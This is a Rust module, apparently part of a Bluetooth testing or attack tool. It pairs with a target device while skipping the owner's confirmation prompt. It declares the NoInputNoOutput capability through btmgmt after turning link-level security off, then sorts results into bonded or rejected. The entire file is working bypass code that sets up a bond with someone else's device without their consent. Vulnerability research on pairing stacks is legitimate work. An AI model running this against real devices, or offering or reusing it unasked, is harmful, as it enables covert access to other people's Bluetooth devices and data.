//! Pairing through the no-confirmation capability bypass.
//!
//! BlueZ decides whether pairing needs user confirmation from the I/O
//! capabilities both sides declare. A device that accepts a peer declaring
//! `NoInputNoOutput` (no display, no keyboard) has nothing to show a
//! confirmation on, and many stacks simply skip the confirmation step —
//! pairing completes without the owner ever seeing a prompt. [`PairingAgent`]
//! drives the local controller through exactly that attempt and classifies
//! the tool's free-text response.
//!
//! A target that answers with an authentication rejection is **not** broken
//! and not an error: it is the expected answer from a stack that enforces
//! confirmation, and it comes back as [`PairingOutcome::Rejected`].

use std::sync::Arc;

use tracing::{debug, info};

use crate::command::{run, run_checked, CommandRunner};
use crate::config::ToolPaths;
use crate::device::Target;
use crate::error::{Error, Result};

/// Generic failure token in `btmgmt` output.
const FAILURE_MARKER: &str = "failed";

/// Exemption token: the controller already holds a bond for the target.
const ALREADY_PAIRED_MARKER: &str = "Already Paired";

/// The well-defined rejection code of a target that resists the bypass.
const AUTH_REJECTED_MARKER: &str = "status 0x05 (Authentication Failed)";

/// I/O capability classes a controller can declare during pairing.
///
/// Only [`NoInputNoOutput`](Self::NoInputNoOutput) is ever sent by the
/// agent; the rest exist because the controller representation is a closed
/// numeric enumeration.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum IoCapability {
    /// Display only, no input.
    DisplayOnly = 0,
    /// Display plus yes/no input.
    DisplayYesNo = 1,
    /// Keyboard only, no display.
    KeyboardOnly = 2,
    /// Neither display nor keyboard — the class some stacks skip
    /// confirmation for entirely.
    NoInputNoOutput = 3,
    /// Keyboard plus display.
    KeyboardDisplay = 4,
}

impl IoCapability {
    /// Numeric value passed to `btmgmt pair -c`.
    #[must_use]
    pub fn value(self) -> u8 {
        self as u8
    }
}

/// Terminal outcome of a pairing attempt.
///
/// Three-way semantics together with [`Error`]: `Paired` and `Rejected` are
/// both normal terminations, so "the target is not vulnerable" can never be
/// confused with "the tool broke".
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum PairingOutcome {
    /// The controller holds a usable bond with the target.
    Paired,
    /// The target rejected authentication — it resists the bypass.
    Rejected,
}

impl PairingOutcome {
    /// `true` when a bond was established.
    #[must_use]
    pub fn is_paired(self) -> bool {
        matches!(self, Self::Paired)
    }
}

/// Drives the local controller through one bypass pairing attempt.
pub struct PairingAgent {
    runner: Arc<dyn CommandRunner>,
    tools: ToolPaths,
}

impl PairingAgent {
    /// Creates an agent using the given runner and tool paths.
    #[must_use]
    pub fn new(runner: Arc<dyn CommandRunner>, tools: ToolPaths) -> Self {
        Self { runner, tools }
    }

    /// Attempts to pair with `target` without user confirmation.
    ///
    /// Controller state is not assumed to survive between runs or to be
    /// exclusively ours, so the three idempotent preparation commands are
    /// issued before every attempt: bondable on, pairable on, link-level
    /// security off.
    ///
    /// # Errors
    ///
    /// Returns [`Error::CommandFailed`] with the raw tool output for any
    /// failure other than the well-known authentication rejection. No
    /// retries happen here; retry policy belongs to the caller.
    pub async fn pair(&self, target: &Target) -> Result<PairingOutcome> {
        self.prepare_controller().await?;

        let capability = IoCapability::NoInputNoOutput.value().to_string();
        let address_type = target.address_type.value().to_string();
        let args = [
            "pair",
            "-c",
            capability.as_str(),
            "-t",
            address_type.as_str(),
            target.address.as_str(),
        ];

        debug!(address = %target.address, "attempting no-confirmation pairing");

        let attempt = run_checked(self.runner.as_ref(), &self.tools.btmgmt, &args, |out| {
            !(out.contains(FAILURE_MARKER) && !out.contains(ALREADY_PAIRED_MARKER))
        })
        .await;

        match attempt {
            Ok(_) => {
                info!(address = %target.address, "pairing succeeded");
                Ok(PairingOutcome::Paired)
            }
            Err(Error::CommandFailed { command, output }) => {
                if output.contains(AUTH_REJECTED_MARKER) {
                    info!(address = %target.address, "target rejected authentication");
                    return Ok(PairingOutcome::Rejected);
                }
                if output.contains(ALREADY_PAIRED_MARKER) {
                    info!(address = %target.address, "bond already present");
                    return Ok(PairingOutcome::Paired);
                }
                Err(Error::CommandFailed { command, output })
            }
            Err(other) => Err(other),
        }
    }

    /// Puts the controller into a state that accepts the bypass attempt.
    async fn prepare_controller(&self) -> Result<()> {
        let runner = self.runner.as_ref();
        run(runner, &self.tools.btmgmt, &["bondable", "true"]).await?;
        run(runner, &self.tools.btmgmt, &["pairable", "true"]).await?;
        run(runner, &self.tools.btmgmt, &["linksec", "false"]).await?;
        Ok(())
    }
}
